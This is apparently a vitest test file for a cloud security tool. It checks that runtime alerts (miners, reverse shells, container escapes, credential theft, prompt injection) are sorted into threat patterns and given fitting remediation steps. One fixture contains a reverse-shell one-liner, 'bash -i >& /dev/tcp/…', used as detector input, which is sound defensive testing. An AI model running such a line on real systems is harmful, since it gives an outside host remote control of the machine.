import { describe, expect, it } from 'vitest';
import type { SecurityEvent } from '../../../../src/extension/core/model/threat.ts';
import { proposeActions } from '../../../../src/extension/core/remediate/propose/proposeActions.ts';
import { recognise } from '../../../../src/extension/core/remediate/propose/recognise.ts';
import { plainPhrase } from '../../../../src/extension/core/report/plainText.ts';
import { actionNamed, given, miner, probed, sampleEvent, sampleThreat, threatOf, unprobed } from './given.ts';

const minerRuns = sampleEvent('Execution from /dev/shm');

/** An event of the storefront's container, of another rule and engine, without tags that would tell more. */
function inContainer(rule: string, more: Partial<SecurityEvent> = {}): SecurityEvent {
  const { tags: _tags, ...plain } = minerRuns;
  const fields = { ...plain.fields, 'proc.cmdline': 'kdevtmpfsi' };
  return { ...plain, id: 'f'.repeat(32), rule, tags: [], fields, ...more };
}

function namesFor(event: SecurityEvent): readonly string[] {
  return recognise(threatOf(event)).map(({ pattern }) => pattern.name);
}

describe('what kind of threat it is', () => {
  it.each<[string, SecurityEvent, string]>([
    ['a miner by its technique', sampleEvent('Detect outbound connections to common miner pool ports'), 'A miner or other malware runs'],
    ['a miner by what the model is made for', sampleEvent('Sysdig ML Crypto Mining'), 'A miner or other malware runs'],
    ['malware by its engine', sampleEvent('Malware Detection'), 'A miner or other malware runs'],
    ['a web shell', sampleEvent('Web Server Wrote an Executable Page'), 'A miner or other malware runs'],
    ['a shell that a server started', sampleEvent('Run shell untrusted'), 'A shell or a program takes orders from outside'],
    ['a reverse shell by words', inContainer('Possible Reverse Shell'), 'A shell or a program takes orders from outside'],
    [
      'a reverse shell by its own device',
      inContainer('A custom rule', { fields: { ...minerRuns.fields, 'proc.cmdline': 'bash -i >& /dev/tcp/198.51.100.9/443' } }),
      'A shell or a program takes orders from outside',
    ],
    ['drift by its engine', inContainer('Drift Detection', { engine: 'drift' }), 'A program ran that was not in the image'],
    ['drift by words', inContainer('Drop and execute new binary in container'), 'A program ran that was not in the image'],
    ['an escape', sampleEvent('Change thread namespace'), 'A container was left for its host, or may do so'],
    ['a privileged container', inContainer('Launch Privileged Container'), 'A container was left for its host, or may do so'],
    ['the metadata service', sampleEvent('Contact EC2 Instance Metadata Service From Host'), 'Credentials were taken, or used elsewhere'],
    ['keys looked for', inContainer('Find AWS Credentials'), 'Credentials were taken, or used elsewhere'],
    ['the session of an instance elsewhere', sampleEvent('Create Access Key for User'), 'Credentials were taken, or used elsewhere'],
    ['an access key', sampleEvent('Create Access Key for User'), 'Credentials were made that outlast the session'],
    ['a stopped trail', sampleEvent('CloudTrail Logging Disabled'), 'The log of the account was tampered with'],
    ['a public bucket', sampleEvent('Put Bucket Policy Allowing Public Access'), 'Data was opened to the public or sent away'],
    ['a file sent away', sampleEvent('Data Sent to External Address by Network Tool'), 'Data was opened to the public or sent away'],
    ['an exec into a pod', sampleEvent('Attach/Exec Pod'), 'Somebody entered a pod or went on to another machine'],
    ['a token of a service account', sampleEvent('Read Service Account Token'), 'The token of a service account was read'],
    ['a cron job on a host', sampleEvent('Schedule Cron Jobs'), 'Something was planted on a host to come back'],
    ['a unit on a host', sampleEvent('Systemd Unit Created'), 'Something was planted on a host to come back'],
    ['a prompt', sampleEvent('Command Injection through AI Agent Tool'), 'A language model or its tools were made to act'],
    ['looking around', sampleEvent('System Geolocation Discovery'), 'Somebody looked around'],
  ])('[R-11] %s', (_what, event, name) => {
    expect(namesFor(event)).toContain(name);
  });

  it('[R-11] what shows nothing of all this asks for evidence alone', () => {
    const threat = threatOf(inContainer('Rule 4711'));
    expect(recognise(threat).map(({ pattern }) => pattern.name)).toEqual(['It is of no pattern that is known']);
    const { actions } = proposeActions(given(threat, unprobed));
    expect(actions.map(({ name }) => name)).toEqual(['CAPTURE', 'GET_LOGS', 'FETCH_CLOUD_LOGS'].sort((a, b) => order(a) - order(b)));
  });
});

function order(name: string): number {
  return ['GET_LOGS', 'CAPTURE', 'FETCH_CLOUD_LOGS'].indexOf(name);
}

const account = [
  'Create Access Key for User',
  'CloudTrail Logging Disabled',
  'Delete Bucket Public Access Block',
  'Put Bucket Policy Allowing Public Access',
] as const;

describe('what may be done about it', () => {
  it.each<[string, Parameters<typeof sampleThreat>, readonly string[]]>([
    [
      'a miner',
      [...miner],
      ['GET_LOGS', 'FILE_ACQUIRE', 'CAPTURE', 'FILE_QUARANTINE', 'ISOLATE_NETWORK', 'KILL_PROCESS', 'KILL_CONTAINER', 'kubectl scale'],
    ],
    ['a shell', ['Run shell untrusted'], ['CAPTURE', 'GET_LOGS', 'kubectl label', 'ISOLATE_NETWORK', 'PAUSE_CONTAINER', 'DELETE_POD']],
    ['an escape', ['Change thread namespace'], ['CAPTURE', 'CLOUD_VOLUME_SNAPSHOT', 'kubectl cordon', 'STOP_CONTAINER', 'KILL_CONTAINER']],
    [
      'stolen credentials',
      ['Contact EC2 Instance Metadata Service From Host'],
      ['FETCH_CLOUD_LOGS', 'aws iam attach-role-policy', 'aws iam put-role-policy', 'aws ec2 modify-instance-metadata-options'],
    ],
    [
      'an account',
      [...account],
      [
        ...['aws cloudtrail start-logging', 'FETCH_CLOUD_LOGS', 'IAM_QUARANTINE', 'MAKE_PRIVATE_CLOUD_RESOURCE'],
        ...['aws iam update-access-key', 'aws iam put-user-policy', 'aws s3api put-public-access-block', 'aws iam delete-access-key'],
      ],
    ],
    [
      'a pod entered',
      ['Attach/Exec Pod', 'Terminal shell in container'],
      ['GET_LOGS', 'kubectl auth can-i --as', 'ISOLATE_NETWORK', 'KILL_PROCESS'],
    ],
    ['a token', ['Read Service Account Token'], ['GET_LOGS', 'ISOLATE_NETWORK', 'DELETE_POD', 'ROLLOUT_RESTART']],
    ['persistence', ['Systemd Unit Created', 'Schedule Cron Jobs'], ['FILE_ACQUIRE', 'last', 'FILE_QUARANTINE', 'host clean-up']],
    [
      'a prompt',
      ['Command Injection through AI Agent Tool'],
      ['GET_LOGS', 'CAPTURE', 'ISOLATE_NETWORK', 'PAUSE_CONTAINER', 'KILL_PROCESS'],
    ],
  ])('[R-11] %s', async (_what, rules, names) => {
    const { actions } = proposeActions(given(sampleThreat(...rules), await probed()));
    expect(actions.map(({ name }) => name)).toEqual(expect.arrayContaining([...names]));
  });

  it('[R-11] drift keeps the file, holds the rollout and goes back to the image', async () => {
    const { actions } = proposeActions(given(threatOf(inContainer('Drift Detection', { engine: 'drift' })), await probed()));
    const names = ['FILE_ACQUIRE', 'kubectl rollout pause', 'FILE_QUARANTINE', 'KILL_CONTAINER', 'ROLLOUT_RESTART'];
    expect(actions.map(({ name }) => name)).toEqual(expect.arrayContaining(names));
  });

  it('[R-11] a log that is of no cloud, cluster or machine says nothing of a host', () => {
    const { container: _container, pod: _pod, workload: _workload, host: _host, ...scope } = minerRuns.scope;
    const okta = inContainer('User made an administrator', {
      fields: { 'okta.evt.type': 'user.account.privilege.grant' },
      labels: {},
      scope,
      tags: ['MITRE_TA0003_persistence'],
    });
    expect(namesFor(okta)).toEqual(['It is of no pattern that is known']);
  });

  it('[R-11] the token of a workload that the probe read is taken out of its pods', async () => {
    const { labels, scope } = minerRuns;
    const read = { ...sampleEvent('Read Service Account Token'), labels, scope };
    const patch = actionNamed(proposeActions(given(threatOf(read), await probed())).actions, 'kubectl patch');
    expect(patch.line).toContain(`'--patch={"spec":{"template":{"spec":{"automountServiceAccountToken":false}}}}'`);
  });

  it('[R-11] looking around asks for evidence and a question, and stops nothing', async () => {
    const { actions } = proposeActions(given(sampleThreat('System Geolocation Discovery'), await probed()));
    expect(actions.map(({ stage }) => stage).filter((stage) => stage !== 'evidence')).toEqual([]);
    expect(actionNamed(actions, 'last')).toMatchObject({ surface: 'ticket', line: 'last -F ops' });
  });

  it('[R-11] nothing is ended for what the agent has prevented', () => {
    const { actions } = proposeActions(given(sampleThreat('Malware Detection'), unprobed));
    expect(actions.filter(({ removes }) => removes)).toEqual([]);
    expect(actionNamed(actions, 'FILE_QUARANTINE').line).toContain('/tmp/update.bin');
  });

  it('[R-11] a server that was used is not killed for what came through it', () => {
    const { actions } = proposeActions(given(sampleThreat('Web Server Wrote an Executable Page'), unprobed));
    expect(actions.filter(({ name }) => name === 'KILL_PROCESS')).toEqual([]);
  });

  it('[R-11] the same request is there once, for the reason of the first pattern, with the evidence of all', () => {
    const threat = sampleThreat('Execution from /dev/shm', 'Run shell untrusted');
    const isolate = proposeActions(given(threat, unprobed)).actions.filter(({ name }) => name === 'ISOLATE_NETWORK');
    expect(isolate).toHaveLength(1);
    expect(plainPhrase(isolate[0]?.why.phrase ?? [])).toMatch(
      /^A miner or other malware runs: Execution from \/dev\/shm at .* \(kdevtmpfsi\)$/,
    );
    expect(isolate[0]?.why.cites).toEqual(threat.events.map(({ id }) => id));
  });

  it('[R-11] the list made again at another time is the same list, its windows apart', async () => {
    const input = given(sampleThreat(...account), await probed());
    const ids = (now: number) => proposeActions({ ...input, now }).actions.map(({ id }) => id);
    expect(ids(input.now + 60_000)).toEqual(ids(input.now));
    expect(new Set(ids(input.now)).size).toBe(ids(input.now).length);
    expect(ids(input.now).every((id) => /^A-[0-9a-f]{12}$/.test(id))).toBe(true);
  });
});
